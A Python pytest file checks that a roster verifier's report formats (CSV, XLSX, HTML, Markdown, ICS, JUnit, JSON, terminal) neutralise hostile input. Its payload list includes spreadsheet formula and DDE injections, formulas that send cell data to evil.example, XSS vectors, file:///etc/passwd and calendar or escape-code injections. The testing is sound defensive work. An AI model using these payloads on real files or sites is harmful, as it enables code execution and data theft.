"""No payload in a list can become a formula, a link or a script in any report."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from tests.roster.rows import ALL_FORMATS, rendered, report, row
from verifier.roster.report import Report, neutralise
from verifier.roster.report.neutralise import cell, markdown, plain

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "'=1+1",
    '"=1+1',
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "%0A=1+1",
    "foo;=1+1",
    "foo\t=1+1",
    "foo\n=1+1",
    "foo\r\n@SUM(1)",
    "foo; +1",
    "a|=1+1",
    "|calc",
    '=WEBSERVICE("http://evil.example")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<iframe src=//evil.example>",
    "&lt;script&gt;",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "]]>",
    "<?xml version='1.0'?>",
    '<!DOCTYPE x [<!ENTITY a "b">]>',
    "&a;",
    "&#x3c;script&#x3e;",
    "[x](javascript:alert(1))",
    "[x](http://evil.example)",
    "![x](http://evil.example/a.png)",
    "http://evil.example",
    "https://evil.example/a?b=c",
    "www.evil.example",
    "evil@evil.example",
    "mailto:evil@evil.example",
    "<http://evil.example>",
    "`code`",
    "| a | b |",
    "\\| x",
    "**bold**",
    "# head",
    "@someone",
    "#123",
    "internal:Sheet1!A1",
    "external:evil.xlsx",
    "file:///etc/passwd",
    "ftp://evil.example",
    "BEGIN:VEVENT",
    "x\r\nATTACH:http://evil.example",
    "x\nEND:VCALENDAR",
    "\u202eexe.slx",
    "\x00\x01\x1b[31mred",
    "{=1+1}",
    "{{7*7}}",
    "x" * 40_000,
)
ALLOWED_LINK = "https://board.example/search?a=1"


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


def hostile(payload: str) -> Report:
    """Return a report in which every text a list or a register can fill holds the payload."""
    outcomes = ("confirmed", "attention", "review", "cannot_say", "not_found", "rejected")
    rows = [
        row(
            place + 2, outcome, cells=(payload, payload), asked=payload, states=(payload,), why=payload, name=payload,
            number=payload, status=payload, reasons=payload, odd=(payload,), says=(payload,), todo=payload,
            decision=payload, certification=payload, publisher=payload, page=payload,
        )
        for place, outcome in enumerate(outcomes)
    ]  # fmt: skip
    texts = {"file": payload, "header": (payload, "State"), "by": payload, "remarks": (payload,)}
    return report(rows, **texts, titles={"wa": payload}, lists={"leie": payload})


def made(payload: str, module: str) -> bytes:
    """Return the hostile report in one format."""
    return rendered(hostile(payload), module)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_has_no_cell_a_spreadsheet_would_run(payload: str) -> None:
    text = made(payload, "csv").decode("utf-8-sig")
    cells = [one for line in csv.reader(io.StringIO(text, newline="")) for one in line]
    assert not [one for one in cells if one.lstrip(' \u00a0\u200b\ufeff"')[:1] in {*"=+-@|%\t\r\n＝＋－＠"} and one]
    # Where a semicolon or a tab separates cells, the same file is split in other places.
    for separator in ";\t":
        for line in re.split(r"[\r\n]+", text):
            assert not [
                one for one in line.split(separator)[1:] if one.strip(' "')[:1] in {*"=+-@＝＋－＠"} and one.strip()
            ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_has_no_formula_and_no_link(payload: str) -> None:
    with zipfile.ZipFile(io.BytesIO(made(payload, "xlsx"))) as book:
        names = book.namelist()
        for name in names:
            content = book.read(name)
            ElementTree.fromstring(content)
            if "worksheets" in name:
                assert b"<f>" not in content
                assert b"<f " not in content
                assert b"hyperlink" not in content
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in content
        assert not [name for name in names if "externalLink" in name or "vba" in name.casefold()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_has_no_script_and_no_link_but_the_boards_own(payload: str) -> None:
    page = BeautifulSoup(made(payload, "html").decode(), "html.parser")
    assert not page.find_all(["script", "iframe", "img", "svg", "object", "embed", "form", "link", "base"])
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on") or name in ("src", "action", "srcdoc")]
    links = {str(tag["href"]) for tag in page.find_all("a")}
    assert all(re.fullmatch(r"https?://[^\s\"<>]+", link) for link in links)
    assert len(page.find_all("style")) == 1


def test_html_links_to_a_board_only_where_it_is_plainly_an_address() -> None:
    page = BeautifulSoup(rendered(report([row()]), "html").decode(), "html.parser")
    assert {str(tag["href"]) for tag in page.find_all("a")} == {ALLOWED_LINK}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_junit_is_well_formed_and_says_the_payload_as_text(payload: str) -> None:
    tree = ElementTree.fromstring(made(payload, "junit"))
    assert len(tree.findall(".//testcase")) == 6


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_has_no_live_link_markup_or_html(payload: str) -> None:
    text = made(payload, "markdown").decode()
    assert not re.search(r"(?<!\\)\]\(|<[a-z/!?]|://|(?<!\\)`|\bwww\.[a-z]|@[a-z]", text, re.IGNORECASE)
    rows = [line for line in text.split("\n") if line.startswith("| ")]
    for line in rows[-6:]:
        assert len(re.findall(r"(?<!\\)\|", line)) == 12


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_calendar_keeps_its_own_lines(payload: str) -> None:
    text = made(payload, "ics").decode()
    lines = text.replace("\r\n ", "").split("\r\n")
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == 6
    assert lines.count("END:VCALENDAR") == 1
    assert not [line for line in lines if line.startswith(("ATTACH", "URL", "ORGANIZER"))]
    assert "://" not in text
    assert max(len(line.encode()) for line in text.split("\r\n")) <= 75


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("module", ["json", "jsonl"])
def test_json_says_exactly_what_was_given(payload: str, module: str) -> None:
    text = made(payload, module).decode()
    first = json.loads(text)["rows"][0] if module == "json" else json.loads(text.split("\n")[0])
    assert first["asked"] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_terminal_gets_one_line_and_no_control_signs(payload: str) -> None:
    text = made(payload, "text").decode()
    assert "\x1b" not in text
    assert "\x00" not in text


@pytest.mark.parametrize("module", ALL_FORMATS)
def test_every_format_writes_something(module: str) -> None:
    assert len(rendered(report([row()]), module)) > 100


@pytest.mark.parametrize("text", ["Marisol Quillowmere", "O'Brien-Smith, Ann", "AC99000101", "", "Zoë 2026-11-22"])
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == plain(text) == text


@given(st.text(max_size=12) | st.text("aZ9 ;|=+-@\t\n.,'\"", max_size=8))
def test_a_cell_that_is_let_through_at_once_is_one_that_needs_nothing(text: str) -> None:
    assert cell(text) == neutralise._defused(text)


def test_only_an_apostrophe_is_added() -> None:
    assert cell("=1+1") == "'=1+1"
    assert markdown("Ann Lee") == "Ann Lee"
